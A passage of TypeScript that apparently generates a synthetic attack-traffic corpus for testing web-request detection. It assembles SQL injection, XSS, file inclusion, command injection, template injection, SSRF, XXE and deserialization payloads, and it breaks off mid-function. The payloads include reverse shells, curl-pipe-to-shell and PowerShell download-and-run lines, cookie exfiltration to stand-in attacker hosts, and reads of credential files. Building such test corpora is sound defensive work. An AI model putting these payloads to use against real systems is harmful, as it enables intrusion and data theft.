/**
 * @module analyze/corpus/attacks
 * Attack transactions for every class of the contract. Payloads are composed here from templates
 * and random parts (nothing is copied from public payload lists), placed in query parameters, form
 * fields, JSON fields, headers, cookies, the path or multipart fields, and a share of them hidden
 * with an evasion (see `evasions.ts`). Whole-request attacks (XML bodies, uploads, web-shell access,
 * scanner probes) build their own transaction.
 */
import type { AttackClass, Transaction } from '../contract.js';
import { evasions } from './evasions.js';
import type { Evasion } from './evasions.js';
import { browserHeaders, encodeValue, fileContent, formEncode, joinEncoded, multipart } from './http.js';
import type { Rng } from './prng.js';
import { ALNUM, DIGITS, HEX } from './prng.js';

type Draft = Omit<Transaction, 'id'>;
export type CorpusAttackClass = Exclude<AttackClass, 'other'>;
export type Placement = 'query' | 'form' | 'json' | 'header' | 'cookie' | 'path' | 'multipart';

interface ParamShot {
  kind: 'param';
  payload: string;
  names: readonly string[];
  placements: readonly Placement[];
  headers?: readonly string[];
}
interface RequestShot {
  kind: 'request';
  build(rng: Rng, evade: boolean): { draft: Draft; evasion: string | null };
}
type Shot = ParamShot | RequestShot;
type Generator = (rng: Rng) => Shot;

const param = (payload: string, names: readonly string[], placements: readonly Placement[], headers?: readonly string[]): ParamShot => (headers === undefined ? { kind: 'param', payload, names, placements } : { kind: 'param', payload, names, placements, headers });

const attackerHost = (rng: Rng): string => rng.pick([`${rng.chars('abcdefghijklmnopqrstuvwxyz', rng.int(5, 10))}.xyz`, `203.0.113.${rng.int(1, 254)}`, `198.51.100.${rng.int(1, 254)}`, `${rng.chars('abcdefghijklmnopqrstuvwxyz0123456789', 20)}.oast.fun`, `update-${rng.chars(HEX, 6)}.top`, `cdn.${rng.chars('abcdefghijklmnopqrstuvwxyz', 6)}.ru`]);
const table = (rng: Rng): string => rng.pick(['users', 'nguoi_dung', 'can_bo', 'tai_khoan', 'admin', 'ho_so', 'information_schema.tables']);
const column = (rng: Rng): string => rng.pick(['username', 'password', 'mat_khau', 'email', 'so_cccd', 'table_name', 'column_name']);
const prefix = (rng: Rng): string => rng.pick(['', '1', String(rng.int(1, 99999)), `0${rng.chars(DIGITS, 11)}`, 'admin', 'abc']);
const trailer = (rng: Rng): string => rng.pick(['--', '-- -', '#', '/*', ';--', '']);
const shellCmd = (rng: Rng, host: string): string => rng.pick(['id', 'whoami', 'uname -a', 'cat /etc/passwd', 'ls -la /', `wget http://${host}/x.sh -O /tmp/.x`, `curl -s http://${host}/a|sh`, `ping -c 3 ${host}`, `nc ${host} 4444 -e /bin/sh`, `bash -i >& /dev/tcp/${host}/4444 0>&1`, 'cat /proc/self/environ', 'sleep 10', 'net user', 'type C:\\Windows\\win.ini', `nslookup ${host}`]);
const jsSink = (rng: Rng, host: string): string => rng.pick(['alert(1)', 'alert(document.domain)', 'prompt(1)', 'confirm`1`', `fetch('//${host}/?c='+document.cookie)`, `eval(atob('${Buffer.from(`new Image().src='//${host}/'+document.cookie`).toString('base64')}'))`, `document.location='http://${host}/c?'+document.cookie`, 'alert(String.fromCharCode(88,83,83))']);
const depth = (rng: Rng, sep = '/'): string => `..${sep}`.repeat(rng.int(2, 9));
const localFile = (rng: Rng): string => rng.pick(['etc/passwd', 'etc/shadow', 'etc/hosts', 'proc/self/environ', 'var/log/nginx/access.log', 'root/.ssh/id_rsa', 'var/www/html/config.php', 'WEB-INF/web.xml', 'usr/local/tomcat/conf/tomcat-users.xml', 'home/ubuntu/.bash_history']);
/** An internal, loopback, link-local or metadata address, in one of the forms a URL may carry it. */
const internalHost = (rng: Rng): string => rng.pick(['127.0.0.1', 'localhost', '127.1', '0x7f000001', '2130706433', '[::1]', '169.254.169.254', `169.254.${rng.int(0, 255)}.${rng.int(1, 254)}`, `10.${rng.int(0, 255)}.${rng.int(0, 255)}.${rng.int(1, 254)}`, `192.168.${rng.int(0, 255)}.${rng.int(1, 254)}`, 'metadata.google.internal', '[::ffff:127.0.0.1]']);
/** A Windows command an intruder runs first, with the arguments it takes. */
const windowsCmd = (rng: Rng): string => rng.pick(['type C:\\Windows\\win.ini', 'net user', `net user ${rng.pick(['admin1', 'support', 'hacker'])} P@ss123 /add`, 'net localgroup administrators', 'dir C:\\', 'dir c:\\inetpub\\wwwroot', 'ipconfig /all', 'whoami /priv', 'type c:\\boot.ini', 'net view', 'tasklist /v', 'systeminfo']);
const javaClass = (rng: Rng): string => rng.pick(['org.apache.commons.collections.functors.InvokerTransformer', 'org.apache.commons.collections4.functors.ChainedTransformer', 'java.util.PriorityQueue', 'sun.reflect.annotation.AnnotationInvocationHandler', 'com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl', 'org.springframework.beans.factory.ObjectFactory']);

function javaSerialized(rng: Rng): string {
  const cls = javaClass(rng);
  const bytes = [0xac, 0xed, 0x00, 0x05, 0x73, 0x72, cls.length >> 8, cls.length & 0xff, ...Array.from(cls, (c) => c.charCodeAt(0))];
  for (let i = 0, n = rng.int(40, 160); i < n; i++) bytes.push(rng.int(0, 255));
  return Buffer.from(bytes).toString('base64');
}
function phpSerialized(rng: Rng, host: string): string {
  const cls = rng.pick(['GuzzleHttp\\Cookie\\FileCookieJar', 'Monolog\\Handler\\SyslogUdpHandler', 'Illuminate\\Broadcasting\\PendingBroadcast', 'PHPMailer', 'CacheItem', 'App\\Models\\User']);
  const cmd = shellCmd(rng, host);
  return rng.pick([`O:${cls.length}:"${cls}":2:{s:4:"file";s:${10}:"/tmp/x.php";s:4:"data";s:${cmd.length}:"${cmd}";}`, `a:2:{i:0;O:${cls.length}:"${cls}":1:{s:6:"events";s:${cmd.length}:"${cmd}";}i:1;i:7;}`, `O:8:"stdClass":1:{s:5:"admin";b:1;}`]);
}

const generators: Record<CorpusAttackClass, readonly Generator[]> = {
  sqli: [
    (rng) => param(`${prefix(rng)}' OR '1'='1${rng.pick(["'", "'--", "' -- -", "'#"])}`, ['id', 'username', 'ma_ho_so', 'cccd', 'tu-khoa'], ['query', 'form', 'json', 'cookie', 'multipart']),
    (rng) => param(`${prefix(rng)}${rng.pick(["'", '', "')", ')'])} UNION ${rng.pick(['', 'ALL '])}SELECT ${Array.from({ length: rng.int(1, 6) }, () => rng.pick(['NULL', column(rng), '@@version', 'user()', 'database()', '1', 'version()'])).join(',')} FROM ${table(rng)}${trailer(rng)}`, ['id', 'page', 'sort', 'ma_thu_tuc', 'category'], ['query', 'form', 'json', 'path', 'cookie']),
    (rng) => param(`${prefix(rng)}' AND ${rng.pick(['SLEEP(5)', 'sleep(10)', "1=(SELECT 1 FROM pg_sleep(5))", 'BENCHMARK(5000000,MD5(1))', "(SELECT * FROM (SELECT(SLEEP(7)))a)"])}${trailer(rng)}`, ['id', 'ma_ho_so', 'email', 'search'], ['query', 'form', 'json', 'header'], ['User-Agent', 'X-Forwarded-For', 'Referer']),
    (rng) => param(`${prefix(rng)}'; WAITFOR DELAY '0:0:${rng.int(3, 9)}'--`, ['id', 'username'], ['query', 'form', 'json']),
    (rng) => param(`${prefix(rng)} AND ${rng.pick(['extractvalue', 'updatexml'])}(1,concat(0x7e,(SELECT ${rng.pick(['version()', 'user()', `${column(rng)} FROM ${table(rng)} LIMIT 1`])}),0x7e)${rng.pick(['', ',1'])})${trailer(rng)}`, ['id', 'page', 'limit'], ['query', 'form', 'json', 'path']),
    (rng) => param(`${prefix(rng)}'${rng.pick([';', ''])} DROP TABLE ${table(rng)}${trailer(rng)}`, ['id', 'ghi_chu', 'name'], ['query', 'form', 'json']),
    (rng) => param(`${prefix(rng)}' ORDER BY ${rng.int(1, 30)}${trailer(rng)}`, ['sort', 'order', 'id'], ['query', 'form']),
    (rng) => param(`${rng.pick(['admin', 'root', 'canbo01'])}'${rng.pick(['--', '#', ' OR 1=1--', ")-- -"])}`, ['username', 'tai_khoan', 'email'], ['form', 'json', 'multipart']),
    (rng) => param(`${prefix(rng)}' AND (SELECT COUNT(*) FROM ${table(rng)} WHERE ${column(rng)} LIKE 'a%')>0 AND '1'='1`, ['id', 'q'], ['query', 'json', 'cookie']),
    (rng) => param(`${prefix(rng)} AND 1=CAST((SELECT ${column(rng)} FROM ${table(rng)} LIMIT 1) AS INT)`, ['id', 'nam'], ['query', 'form', 'json']),
    (rng) => param(`${prefix(rng)}' || (SELECT CASE WHEN (1=1) THEN pg_sleep(${rng.int(3, 9)}) ELSE pg_sleep(0) END)--`, ['id', 'q'], ['query', 'json', 'header'], ['X-Forwarded-For', 'User-Agent']),
    (rng) => param(`${prefix(rng)}' AND SUBSTRING((SELECT ${column(rng)} FROM ${table(rng)} LIMIT 1),${rng.int(1, 9)},1)='${rng.pick(['a', 'b', '5'])}`, ['id', 'ma_ho_so'], ['query', 'form', 'cookie']),
    (rng) => param(`-${rng.int(1, 9999)} OR 1=1`, ['id', 'page', 'offset'], ['query', 'path', 'json']),
    (rng) => param(`${prefix(rng)}'; INSERT INTO ${table(rng)} (${column(rng)}) VALUES ('hacked')--`, ['ghi_chu', 'name'], ['form', 'json']),
    (rng) => param(`${rng.int(1, 9999)}${rng.pick(['', "'"])} AND ${rng.pick(['1=CONVERT(int, @@version)', '1=CONVERT(INT,(SELECT TOP 1 name FROM sysobjects))', `1=CAST((SELECT ${column(rng)} FROM ${table(rng)} LIMIT 1) AS INT)`, `CAST((SELECT current_user) AS numeric)=1`])}${trailer(rng)}`, ['id', 'nam', 'ma_ho_so'], ['query', 'form', 'json', 'cookie']),
    (rng) => param(`${rng.int(1, 9999)}; ${rng.pick([`WAITFOR DELAY '0:0:${rng.int(3, 9)}'`, `DROP TABLE ${table(rng)}`, `EXEC xp_cmdshell 'ping ${attackerHost(rng)}'`, `SELECT pg_sleep(${rng.int(3, 9)})`])}${rng.pick(['--', '-- -', ';--', ''])}`, ['id', 'page', 'nam'], ['query', 'form', 'json']),
    (rng) => param(rng.pick([`${rng.int(1, 99999)}' OR '1'='1`, `${rng.int(1, 99999)}' OR 1=1-- -`, `${rng.int(1, 99999)} UNION SELECT ${Array.from({ length: rng.int(1, 5) }, () => rng.pick(['NULL', column(rng), 'version()'])).join(',')} FROM ${table(rng)}`, `-${rng.int(1, 99999)} UNION ALL SELECT ${rng.pick(['1,2,3', 'NULL,NULL', 'username,password'])}-- -`, `${rng.int(1, 999)} AND 1=${rng.int(2, 9)}`, `${rng.int(1, 999)} ORDER BY ${rng.int(1, 30)}`]), ['id'], ['path']),
  ],
  xss: [
    (rng) => param(`${rng.pick(['', '">', "'>", '</title>', '</textarea>', '-->'])}<script>${jsSink(rng, attackerHost(rng))}</script>`, ['q', 'tu-khoa', 'ho_ten', 'noi_dung', 'message'], ['query', 'form', 'json', 'multipart']),
    (rng) => param(`${rng.pick(['', '">', "'>"])}<${rng.pick(['img src=x', 'img src=1', 'video src=1', 'audio src=x', 'image src=/'])} onerror=${jsSink(rng, attackerHost(rng))}>`, ['q', 'ho_ten', 'noi_dung', 'ghi_chu'], ['query', 'form', 'json', 'header'], ['Referer', 'User-Agent']),
    (rng) => param(`<svg ${rng.pick(['onload', 'onbegin'])}=${jsSink(rng, attackerHost(rng))}>`, ['q', 'tieu_de', 'noi_dung'], ['query', 'form', 'json']),
    (rng) => param(`javascript:${jsSink(rng, attackerHost(rng))}`, ['returnUrl', 'redirect', 'url', 'next', 'website'], ['query', 'form', 'json']),
    (rng) => param(`<a href="javascript:${jsSink(rng, attackerHost(rng)).replace(/"/g, "'")}">${rng.pick(['Bấm vào đây', 'click', 'Xem chi tiết'])}</a>`, ['noi_dung', 'mo_ta'], ['form', 'json', 'multipart']),
    (rng) => param(`<${rng.pick(['details open ontoggle', 'body onload', 'input autofocus onfocus', 'marquee onstart', 'select autofocus onfocus', 'div onmouseover'])}=${jsSink(rng, attackerHost(rng))}>`, ['noi_dung', 'q', 'ten'], ['query', 'form', 'json']),
    (rng) => param(`<iframe src="${rng.pick(['javascript:alert(1)', `//${attackerHost(rng)}/x.html`, 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='])}"></iframe>`, ['noi_dung', 'mo_ta'], ['form', 'json']),
    (rng) => param(`${rng.pick(["'", '"'])};${jsSink(rng, attackerHost(rng))};//`, ['callback', 'q', 'lang'], ['query']),
    (rng) => param(`" ${rng.pick(['onmouseover', 'onfocus autofocus onfocus', 'onclick'])}="${jsSink(rng, attackerHost(rng)).replace(/"/g, "'")}`, ['q', 'ho_ten', 'value'], ['query', 'form']),
    (rng) => param(`<math><mtext><table><mglyph><style><img src=x onerror=${jsSink(rng, attackerHost(rng))}>`, ['noi_dung'], ['form', 'json']),
    (rng) => param(`<object data="javascript:${jsSink(rng, attackerHost(rng)).replace(/"/g, "'")}">`, ['noi_dung', 'q'], ['form', 'query']),
  ],
  lfi: [
    (rng) => param(`${depth(rng)}${localFile(rng)}`, ['file', 'path', 'tep', 'download', 'template', 'page', 'lang'], ['query', 'form', 'json', 'path', 'cookie']),
    (rng) => param(`${depth(rng, '\\')}${rng.pick(['windows\\win.ini', 'windows\\system32\\drivers\\etc\\hosts', 'inetpub\\wwwroot\\web.config', 'boot.ini'])}`, ['file', 'path', 'tep'], ['query', 'form', 'json']),
    (rng) => param(`${'....//'.repeat(rng.int(3, 8))}${localFile(rng)}`, ['file', 'page'], ['query', 'form']),
    (rng) => param(`php://filter/${rng.pick(['convert.base64-encode', 'read=string.rot13', 'convert.iconv.utf-8.utf-16'])}/resource=${rng.pick(['index.php', 'config.php', '../config/database.php', '/etc/passwd'])}`, ['page', 'file', 'template'], ['query', 'form', 'json']),
    (rng) => param(`/${localFile(rng)}`, ['file', 'path', 'tep'], ['query', 'form', 'json']),
    (rng) => param(`file:///${localFile(rng)}`, ['file', 'document', 'path'], ['query', 'json']),
    (rng) => param(`${rng.pick(['uploads/', 'static/', 'templates/', 'images/'])}${depth(rng)}${localFile(rng)}`, ['file', 'tep', 'img'], ['query', 'form', 'path']),
    (rng) => param(`${depth(rng)}${localFile(rng)}`, ['lang'], ['cookie', 'header'], ['Accept-Language', 'X-Original-URL']),
    (rng) => param(rng.pick(['C:\\Windows\\win.ini', 'c:\\windows\\system.ini', 'C:/Windows/win.ini', 'c:\\boot.ini', 'C:\\inetpub\\wwwroot\\web.config', 'D:\\inetpub\\wwwroot\\web.config', '/root/.ssh/id_rsa', `/home/${rng.pick(['ubuntu', 'deploy', 'admin'])}/.ssh/id_rsa`, '/proc/self/environ', '/etc/shadow', `/home/${rng.pick(['ubuntu', 'www'])}/.bash_history`, '/root/.aws/credentials']), ['file', 'path', 'tep', 'download', 'template', 'doc'], ['query', 'form', 'json', 'cookie']),
    (rng) => param(`${depth(rng)}${localFile(rng)}`, ['lang'], ['header'], ['Accept-Language', 'Accept-Charset']),
  ],
  rfi: [
    (rng) => param(`${rng.pick(['http', 'https', 'ftp'])}://${attackerHost(rng)}/${rng.pick(['shell.txt', 'x.php', 'r57.txt', 'inc/c.txt', 'a.jpg', 'bot.pl'])}${rng.pick(['?', '??', '', '%3F', '#'])}`, ['page', 'include', 'template', 'file', 'module', 'lang', 'path'], ['query', 'form', 'json', 'cookie']),
    (rng) => param(`\\\\${attackerHost(rng)}\\${rng.pick(['share', 'pub', 'c$'])}\\${rng.pick(['shell.php', 'x.php'])}`, ['page', 'include', 'file'], ['query', 'form']),
    (rng) => param(`data://text/plain;base64,${Buffer.from(rng.pick(['<?php system($_GET["c"]); ?>', '<?php phpinfo();?>', '<?php eval($_POST[1]);?>'])).toString('base64')}`, ['page', 'include', 'file'], ['query', 'form', 'json']),
    (rng) => param(`${rng.pick(['http', 'https'])}://${attackerHost(rng)}:${rng.pick([80, 8080, 8000, 443])}/${rng.pick(['index', 'config', 'header'])}.${rng.pick(['txt', 'php', 'inc'])}?`, ['template', 'theme', 'module', 'mosConfig_absolute_path', 'include_path'], ['query', 'form']),
    (rng) => param(`expect://${rng.pick(['id', 'ls', 'whoami'])}`, ['page', 'file'], ['query', 'form']),
    (rng) => param(`${rng.pick(['\\\\', '//'])}${attackerHost(rng)}${rng.pick(['', '@SSL', '@8080'])}/${rng.pick(['share', 'pub', 'webdav', 'c$'])}/${rng.pick(['shell.php', 'x.php', 'inc.txt', 'r57.inc'])}`.replace(/\//g, rng.chance(0.5) ? '/' : '\\'), ['page', 'include', 'file', 'template', 'module'], ['query', 'form', 'json', 'cookie']),
  ],
  rce: [
    (rng) => param(`${rng.pick(['127.0.0.1', 'google.com', '8.8.8.8', 'test', ''])}${rng.pick([';', '|', '||', '&&', '&', '\n'])} ${shellCmd(rng, attackerHost(rng))}`, ['host', 'ip', 'domain', 'ping', 'target', 'filename'], ['query', 'form', 'json', 'multipart']),
    (rng) => param(`${rng.pick(['', 'a', 'bao-cao'])}$(${shellCmd(rng, attackerHost(rng))})`, ['filename', 'name', 'host', 'q'], ['query', 'form', 'json', 'header'], ['User-Agent', 'X-Forwarded-For']),
    (rng) => param(`${rng.pick(['', 'x', 'file.pdf'])}\`${shellCmd(rng, attackerHost(rng))}\``, ['filename', 'host', 'name'], ['query', 'form', 'json']),
    (rng) => param(`() { :; }; ${rng.pick(['echo; /bin/bash -c', '/bin/bash -c', 'echo Content-Type: text/plain; echo;'])} '${shellCmd(rng, attackerHost(rng))}'`, ['x'], ['header'], ['User-Agent', 'Referer', 'Cookie', 'X-Api-Key']),
    (rng) => param(`| powershell -nop -w hidden -${rng.pick(['enc', 'e'])} ${Buffer.from(`IEX(New-Object Net.WebClient).DownloadString('http://${attackerHost(rng)}/p.ps1')`, 'utf16le').toString('base64')}`, ['host', 'cmd', 'file'], ['query', 'form']),
    (rng) => param(`${rng.pick([';', '&&', '|'])} ${shellCmd(rng, attackerHost(rng))} ${rng.pick(['#', ';', '', '&'])}`, ['cmd', 'exec', 'command', 'arg', 'options'], ['query', 'form', 'json', 'cookie']),
    (rng) => param(`${rng.pick(['127.0.0.1', '8.8.8.8', 'dichvucong.gov.vn', 'bao-cao.pdf', ''])}${rng.pick([' & ', ' && ', ' | ', ' || ', '; ', '&', '|', '\r\n'])}${windowsCmd(rng)}`, ['host', 'ip', 'domain', 'target', 'filename', 'path'], ['query', 'form', 'json', 'multipart']),
    (rng) => param(`${rng.pick(['a.jpg', 'x'])};${rng.pick(['rm -rf /tmp/*', `curl http://${attackerHost(rng)}/m -o /tmp/m;chmod +x /tmp/m;/tmp/m`, `echo ${Buffer.from('id').toString('base64')}|base64 -d|sh`])}`, ['filename', 'convert', 'size'], ['form', 'json', 'multipart']),
  ],
  code: [
    (rng) => param(`\${jndi:${rng.pick(['ldap', 'ldaps', 'rmi', 'dns', 'iiop'])}://${attackerHost(rng)}${rng.pick([':1389', ':389', '', ':1099'])}/${rng.pick(['a', 'Exploit', 'o=tomcat', rng.chars(ALNUM, 8)])}}`, ['q', 'username', 'x'], ['header', 'query', 'form', 'json'], ['User-Agent', 'X-Forwarded-For', 'Referer', 'X-Api-Version', 'Authorization', 'X-Request-Id']),
    (rng) => param(`{{${rng.pick(["config.__class__.__init__.__globals__['os'].popen('id').read()", "''.__class__.__mro__[1].__subclasses__()", "request.application.__globals__.__builtins__.__import__('os').popen('whoami').read()", "self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()", "cycler.__init__.__globals__.os.popen('ls').read()"])}}}`, ['name', 'ho_ten', 'template', 'q', 'email'], ['query', 'form', 'json']),
    (rng) => param(`\${T(java.lang.Runtime).getRuntime().exec('${rng.pick(['id', 'whoami', 'touch /tmp/x'])}')}`, ['name', 'q', 'error'], ['query', 'form', 'json']),
    (rng) => param(`%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('${rng.pick(['id', 'whoami'])}'))}`, ['name', 'redirect', 'x'], ['query', 'form', 'header'], ['Content-Type']),
    (rng) => param(`${rng.pick(["';", '";', ''])}${rng.pick(['eval', 'assert', 'system', 'passthru', 'shell_exec'])}(${rng.pick(['$_POST[1]', "$_GET['c']", 'base64_decode($_REQUEST[x])', "'id'"])});${rng.pick(['//', '#', ''])}`, ['q', 'code', 'name', 'callback'], ['query', 'form', 'json']),
    (rng) => param(`<?php ${rng.pick(['phpinfo();', "system('id');", 'echo md5(1);', 'eval($_POST[a]);'])} ?>`, ['noi_dung', 'name', 'data'], ['form', 'json', 'header'], ['User-Agent']),
    (rng) => param(`${rng.pick(["require('child_process').exec('", "process.mainModule.require('child_process').execSync('", "global.process.mainModule.constructor._load('child_process').exec('"])}${shellCmd(rng, attackerHost(rng))}')`, ['q', 'filter', 'expr', 'sort'], ['query', 'json', 'form']),
    (rng) => param(`__import__('os').${rng.pick(['system', 'popen'])}('${rng.pick(['id', 'whoami', 'uname -a'])}')`, ['expr', 'q', 'formula'], ['query', 'json']),
    (rng) => param(`<#assign ex="freemarker.template.utility.Execute"?new()>\${ex("${rng.pick(['id', 'whoami'])}")}`, ['template', 'noi_dung'], ['form', 'json']),
    (rng) => param(`#{T(java.lang.Runtime).getRuntime().exec('${rng.pick(['id', 'whoami'])}')}`, ['name', 'q'], ['query', 'form']),
    (rng) => param(`\${@print(md5(${rng.int(1, 999)}))}`, ['q', 'name'], ['query', 'form']),
    (rng) => param(rng.pick([`{\${${rng.pick(['phpinfo()', "system('id')", 'exit()', `print(md5(${rng.int(1, 999)}))`])}}}`, `\${@${rng.pick(['eval($_GET[x])', 'eval($_POST[1])', "system('id')", 'phpinfo()', `print(md5(${rng.int(1, 999)}))`, 'assert($_REQUEST[c])'])}}`, `"\${${rng.pick(['print', 'var_dump', 'die'])}(md5(${rng.int(1, 999)}))}"`]), ['q', 'name', 'ten', 'ghi_chu', 'callback'], ['query', 'form', 'json', 'cookie']),
  ],
  ssrf: [
    (rng) => param(`http://169.254.169.254/${rng.pick(['latest/meta-data/', 'latest/meta-data/iam/security-credentials/', 'latest/user-data', 'metadata/v1/', 'computeMetadata/v1/instance/service-accounts/default/token'])}`, ['url', 'callback_url', 'webhook', 'avatar', 'image_url', 'link', 'feed'], ['query', 'form', 'json']),
    (rng) => param(`http://${rng.pick(['127.0.0.1', 'localhost', '[::1]', '0.0.0.0'])}:${rng.pick([22, 6379, 8080, 9200, 2375, 8500, 3306, 11211, 10250])}/${rng.pick(['', 'admin', '_cat/indices', 'containers/json', 'v1/agent/self', 'server-status'])}`, ['url', 'webhook', 'target', 'uri', 'src'], ['query', 'form', 'json']),
    (rng) => param(`gopher://${rng.pick(['127.0.0.1', 'localhost'])}:${rng.pick([6379, 3306, 25, 9000])}/_${encodeValue(rng.pick(['*1\r\n$8\r\nflushall\r\n', 'SET x "<?php system($_GET[c]);?>"\r\n', 'HELO x\r\n']), false)}`, ['url', 'uri', 'image_url'], ['query', 'form', 'json']),
    (rng) => param(`${rng.pick(['dict', 'ftp', 'tftp', 'ldap'])}://${rng.pick(['127.0.0.1', 'localhost', '10.0.0.1'])}:${rng.pick([11211, 6379, 21, 389])}/${rng.pick(['stats', 'info', 'x'])}`, ['url', 'src'], ['query', 'json']),
    (rng) => param(`http://${rng.pick([`10.${rng.int(0, 255)}.${rng.int(0, 255)}.${rng.int(1, 254)}`, `172.${rng.int(16, 31)}.${rng.int(0, 255)}.${rng.int(1, 254)}`, `192.168.${rng.int(0, 255)}.${rng.int(1, 254)}`])}${rng.pick(['', ':8080', ':8443'])}/${rng.pick(['admin', 'internal/api/users', 'manager/html', 'jmx-console'])}`, ['url', 'webhook', 'link', 'proxy'], ['query', 'form', 'json']),
    (rng) => param(`http://metadata.google.internal/computeMetadata/v1/${rng.pick(['project/project-id', 'instance/hostname'])}`, ['url', 'feed'], ['query', 'json']),
    (rng) => param(`http://${attackerHost(rng)}@127.0.0.1/${rng.pick(['admin', ''])}`, ['url', 'redirect'], ['query', 'form']),
    (rng) => param(`http://localhost${rng.pick(['', ':8080', ':80'])}/${rng.pick(['admin', 'actuator/env', 'console'])}`, ['url', 'avatar'], ['query', 'json']),
    (rng) => param(`${rng.pick(['ftp', 'gopher', 'dict', 'ldap', 'tftp', 'ftps', 'ldaps'])}://${internalHost(rng)}${rng.pick(['', ':21', ':389', ':6379', ':11211', ':69'])}/${rng.pick(['', 'x', 'info', 'latest/meta-data/', 'dc=corp,dc=local', '_stats', 'pub/'])}`, ['url', 'src', 'webhook', 'callback_url', 'feed', 'image_url'], ['query', 'form', 'json']),
  ],
  xxe: [
    () => ({
      kind: 'request',
      build: (r, evade) => {
        const entity = r.pick(['xxe', 'x', 'file', 'ent']);
        const target = r.pick([`file:///${localFile(r)}`, `http://${attackerHost(r)}/evil.dtd`, 'php://filter/convert.base64-encode/resource=index.php', 'expect://id', 'file:///c:/windows/win.ini']);
        const root = r.pick(['hoSo', 'root', 'foo', 'soap:Envelope', 'data']);
        let doctype = r.chance(0.3)
          ? `<!DOCTYPE ${root} [<!ENTITY % ${entity} SYSTEM "${target}"> %${entity};]>`
          : `<!DOCTYPE ${root} [<!ENTITY ${entity} SYSTEM "${target}">]>`;
        let evasion: string | null = null;
        if (evade) {
          evasion = 'whitespace-alternatives';
          doctype = doctype.replace(/ /g, () => r.pick(['\n', '\t', '\r\n  ', '   ']));
        }
        const xml = `<?xml version="1.0" encoding="${evade && r.chance(0.3) ? 'ISO-8859-1' : 'UTF-8'}"?>\n${doctype}\n<${root}><ten>&${entity};</ten><ma>${r.chars(DIGITS, 6)}</ma></${root}>`;
        return { draft: { method: 'POST', uri: r.pick(['/api/v1/ho-so/import', '/soap/DichVuCongService', '/ws/lienthong', '/api/xml/upload']), headers: browserHeaders(r, { 'Content-Type': r.pick(['application/xml', 'text/xml; charset=utf-8', 'application/soap+xml']) }), body: xml }, evasion };
      },
    }),
    () => ({
      kind: 'request',
      build: (r) => {
        const svg = `<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///${localFile(r)}">]><svg xmlns="http://www.w3.org/2000/svg" width="200" height="200"><text x="10" y="20">&xxe;</text></svg>`;
        const { contentType, body } = multipart(r, [{ name: 'maHoSo', content: r.chars(DIGITS, 8) }, { name: 'file', filename: r.pick(['chu-ky.svg', 'anh.svg', 'logo.svg']), contentType: 'image/svg+xml', content: svg }]);
        return { draft: { method: 'POST', uri: '/api/v1/tep-dinh-kem/tai-len', headers: browserHeaders(r, { 'Content-Type': contentType }), body }, evasion: null };
      },
    }),
    (rng) => {
      const pe = rng.pick(['a', 'dtd', 'remote']);
      return param(`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % ${pe} SYSTEM "http://${attackerHost(rng)}/${rng.pick(['x.dtd', 'oob.dtd'])}"> %${pe};]><r/>`, ['xml', 'data', 'soap', 'request'], ['form', 'query', 'json']);
    },
    (rng) => param(`<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///${localFile(rng)}"/></foo>`, ['xml', 'data', 'noi_dung'], ['form', 'json', 'query']),
    () => ({
      kind: 'request',
      build: (r) => {
        const xml = `<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>\n<lolz>&lol3;</lolz>`;
        return { draft: { method: 'POST', uri: r.pick(['/api/v1/ho-so/import', '/soap/DichVuCongService']), headers: browserHeaders(r, { 'Content-Type': 'application/xml' }), body: xml }, evasion: null };
      },
    }),
  ],
  deser: [
    (rng) => param(javaSerialized(rng), ['data', 'state', 'token', 'object', 'session'], ['cookie', 'form', 'query', 'json', 'header'], ['X-Session', 'Authorization']),
    (rng) => param(phpSerialized(rng, attackerHost(rng)), ['data', 'cart', 'prefs', 'session', 'remember_me'], ['cookie', 'form', 'query']),
    (rng) => param(Buffer.from(phpSerialized(rng, attackerHost(rng))).toString('base64'), ['prefs', 'remember_me', 'data'], ['cookie', 'form']),
    (rng) => param(rng.pick([`cos\nsystem\n(S'${rng.pick(['id', 'whoami'])}'\ntR.`, `cposix\nsystem\np0\n(S'${shellCmd(rng, attackerHost(rng))}'\np1\ntp2\nRp3\n.`, `c__builtin__\neval\n(S'__import__("os").system("id")'\ntR.`]), ['data', 'state', 'pickle'], ['form', 'json', 'cookie']),
    (rng) => param(`{"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('${shellCmd(rng, attackerHost(rng))}')}()"}`, ['profile', 'data', 'session'], ['cookie', 'form', 'json']),
    (rng) => param(rng.pick([`!!python/object/apply:os.system ["${rng.pick(['id', 'whoami'])}"]`, `!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://${attackerHost(rng)}/x.jar"]]]]`, `!!python/object/new:subprocess.check_output [["id"]]`]), ['config', 'data', 'yaml'], ['form', 'json', 'multipart']),
    () => ({
      kind: 'request',
      build: (r, evade) => {
        const inner = r.pick([
          { '@type': 'com.sun.rowset.JdbcRowSetImpl', dataSourceName: `ldap://${attackerHost(r)}:1389/Exploit`, autoCommit: true },
          { '@type': 'java.lang.AutoCloseable', x: { '@type': 'com.mysql.jdbc.JDBC4Connection', hostToConnectTo: attackerHost(r) } },
          { $type: 'System.Windows.Data.ObjectDataProvider, PresentationFramework', MethodName: 'Start', ObjectInstance: { $type: 'System.Diagnostics.Process, System' }, MethodParameters: { $values: ['cmd', '/c calc'] } },
          { '@class': 'ch.qos.logback.core.db.DriverManagerConnectionSource', url: `jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://${attackerHost(r)}/x.sql'` },
        ]);
        let body = JSON.stringify({ hoTen: 'Nguyễn Văn A', data: inner });
        let evasion: string | null = null;
        if (evade) {
          evasion = 'json-unicode-escapes';
